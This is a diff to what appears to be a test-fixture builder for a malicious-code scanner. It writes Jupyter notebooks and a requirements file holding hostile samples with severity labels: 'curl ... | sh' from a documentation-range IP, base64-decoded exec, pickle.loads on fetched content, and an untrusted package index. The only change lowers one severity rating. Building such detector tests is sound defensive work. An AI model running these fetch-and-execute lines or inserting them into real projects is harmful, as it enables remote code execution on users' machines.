@@ -90,7 +90,7 @@ def build(samples):
     a("nb/f.ipynb",nb("get_ipython().system('curl http://198.51.100.7/x | sh')"),"nb get_ipython","medium")
     a("nb/g.ipynb",nb("x = !curl http://198.51.100.7/x | sh"),"nb assign shell","medium")
     a("nb/h.ipynb",nb("exec(__import__('base64').b64decode('cHJpbnQoMSk='))"),"nb exec b64","critical")
-    a("nb/i.ipynb",nb("import pickle,requests\npickle.loads(requests.get('http://198.51.100.7/x').content)"),"nb pickle url","high")
+    a("nb/i.ipynb",nb("import pickle,requests\npickle.loads(requests.get('http://198.51.100.7/x').content)"),"nb pickle url","medium")
     a("nb/j.ipynb",{"nbformat":3,"nbformat_minor":0,"metadata":{},"worksheets":[{"cells":[{"cell_type":"code","language":"python","input":["exec(__import__('base64').b64decode('cHJpbnQoMSk='))"],"outputs":[]}]}]},"nb v3 worksheets","high")
     # requirements
     a("req1/requirements.txt","torch\n--extra-index-url http://198.51.100.7/simple\nevil\n","req http index","medium")
